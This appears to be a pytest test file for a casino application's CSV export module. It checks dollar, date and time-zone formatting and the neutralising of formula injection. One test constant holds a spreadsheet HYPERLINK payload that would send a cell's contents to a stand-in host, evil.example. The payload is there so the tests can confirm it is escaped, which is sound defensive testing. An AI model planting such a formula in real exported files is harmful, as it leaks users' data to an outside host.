"""The one rule every CSV meant for people follows (casino.domain.spreadsheet, issue 22):
headers in words with the unit, dollars to the cent, gaming days as dates, instants in
the property's zone with their offset. Every figure worked by hand."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from casino.domain import spreadsheet
from casino.domain.money import MoneyError, unsigned_dollars

NEW_YORK = "America/New_York"


def test_a_money_header_says_dollars() -> None:
    assert spreadsheet.header("Drop", "money") == "Drop ($)"


def test_a_percent_header_already_naming_its_unit_keeps_its_words() -> None:
    assert (spreadsheet.header("Hold %", "percent"), spreadsheet.header("Hold", "percent")) \
        == ("Hold %", "Hold (%)")


def test_a_column_without_a_unit_keeps_its_words() -> None:
    assert spreadsheet.header("Tables contributing", "count") == "Tables contributing"


@pytest.mark.parametrize(("cents", "cell"), [
    (186000, "1860.00"), (-5000, "-50.00"), (5, "0.05"), (-5, "-0.05"), (0, "0.00"),
    (123456789, "1234567.89"), (None, "")])
def test_money_is_dollars_to_the_cent(cents: int | None, cell: str) -> None:
    """A spreadsheet sums it: no "$", no thousands separator; never a count of cents."""
    assert spreadsheet.dollars_cell(cents) == cell


@pytest.mark.parametrize("bad", [12.5, True, "100"])
def test_money_that_is_not_whole_cents_is_refused(bad: object) -> None:
    with pytest.raises(MoneyError):
        spreadsheet.dollars_cell(bad)  # type: ignore[arg-type]


def test_a_gaming_day_is_its_date() -> None:
    assert (spreadsheet.day_cell(date(2026, 11, 25)), spreadsheet.day_cell("2026-11-25")) \
        == ("2026-11-25", "2026-11-25")


def test_an_instant_is_in_the_propertys_zone_with_its_offset() -> None:
    """11:10 UTC on Nov 26, 2026 is 6:10 in New York (EST, five hours behind); on Jul 1
    it is 7:10 (EDT, four hours behind)."""
    assert spreadsheet.instant_cell(datetime(2026, 11, 26, 11, 10, tzinfo=UTC),
                                    time_zone=NEW_YORK) == "2026-11-26T06:10:00-05:00"
    assert spreadsheet.instant_cell("2026-07-01T11:10:00+00:00", time_zone=NEW_YORK) \
        == "2026-07-01T07:10:00-04:00"


def test_a_naive_time_is_never_written() -> None:
    with pytest.raises(ValueError):
        spreadsheet.instant_cell("2026-11-25T20:00", time_zone=NEW_YORK)


def test_cells_by_kind() -> None:
    assert [spreadsheet.cell(v, k, time_zone=NEW_YORK) for v, k in [
        (-3500, "money"), (-12.5, "percent"), (12, "count"), ("counted", "text"),
        (True, "flag"), (False, "flag"), (None, "money")]] == [
        "-35.00", "-12.50", "12", "counted", "yes", "no", ""]


def test_the_one_writer_puts_the_headers_with_units_then_each_rows_cells() -> None:
    """Columns as (key, label, kind); a cell the row lacks is empty; text is quoted (a
    comma inside it too) and a number the code wrote is bare."""
    out = spreadsheet.write_csv(
        [("day", "Gaming day", "date"), ("drop_cents", "Drop", "money"),
         ("at", "Counted at", "time"), ("status", "Status", "text"),
         ("hands", "Hands", "count")],
        [{"day": "2026-11-25", "drop_cents": -3500, "at": "2026-11-26T11:10:00+00:00",
          "status": "counted, win preliminary", "hands": 12}, {"day": "2026-11-26"}],
        time_zone=NEW_YORK)
    assert out == ('"Gaming day","Drop ($)","Counted at","Status","Hands"\n'
                   '"2026-11-25",-35.00,"2026-11-26T06:10:00-05:00",'
                   '"counted, win preliminary",12\n'
                   '"2026-11-26","","","",""\n')


# --- formulas (OWASP's CSV injection rule, issue 35 item 4) ----------------------------

#: a payload a person could type, after each of the six starts a spreadsheet runs
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2,"Click")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", STARTS)
def test_text_that_begins_like_a_formula_gets_a_single_quote(start: str) -> None:
    assert spreadsheet.neutral(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize("text", ["counted", "", "2026-11-25", " =1+2", "a=b", "'=1"])
def test_other_text_is_kept_as_it_is(text: str) -> None:
    """Only the first character counts: a space first, or an ``=`` further on, is text
    to every spreadsheet; a single quote already first is left alone."""
    assert spreadsheet.neutral(text) == text


@pytest.mark.parametrize("start", STARTS)
def test_every_text_column_of_the_writer_is_neutral_and_quoted(start: str) -> None:
    """Whatever the column's kind, a value the code did not write as a number is text:
    a date, time, flag or text cell holding a person's words, a count holding words.
    Parsed back, each cell begins with the quote; in the file each is quoted."""
    value = start + PAYLOAD
    columns = [("a", "Explanation", "text"), ("b", "Flag", "flag"), ("c", "Day", "date"),
               ("d", "Hands", "count")]
    out = spreadsheet.write_csv(columns, [dict.fromkeys("abcd", value)], time_zone=NEW_YORK)
    row = list(csv.reader(io.StringIO(out)))[1]
    assert row == ["'" + value] * 4
    assert out.split("\n", 1)[1].startswith('"\'' + start)


def test_a_negative_amount_stays_a_number() -> None:
    """-35.00 dollars, -12.50 % and a count of -1 are figures the code made from numbers:
    written bare (no quote marks, no single quote), which a spreadsheet reads as numbers;
    the same characters as text are escaped."""
    out = spreadsheet.write_csv(
        [("w", "Win", "money"), ("h", "Hold", "percent"), ("n", "Change", "count"),
         ("t", "Note", "text")],
        [{"w": -3500, "h": -12.5, "n": -1, "t": "-35.00"}], time_zone=NEW_YORK)
    assert out.splitlines()[1] == '-35.00,-12.50,-1,"\'-35.00"'


def test_a_header_is_neutral_too() -> None:
    out = spreadsheet.write_csv([("a", "=cmd", "text")], [], time_zone=NEW_YORK)
    assert out == '"\'=cmd"\n'


@pytest.mark.parametrize(("cents", "plain", "separated"), [
    (123456, "1234.56", "1,234.56"), (-500, "5.00", "5.00"), (7, "0.07", "0.07")])
def test_the_unsigned_dollars_both_formats_share(cents: int, plain: str, separated: str) -> None:
    assert (unsigned_dollars(cents), unsigned_dollars(cents, separators=True)) == (
        plain, separated)
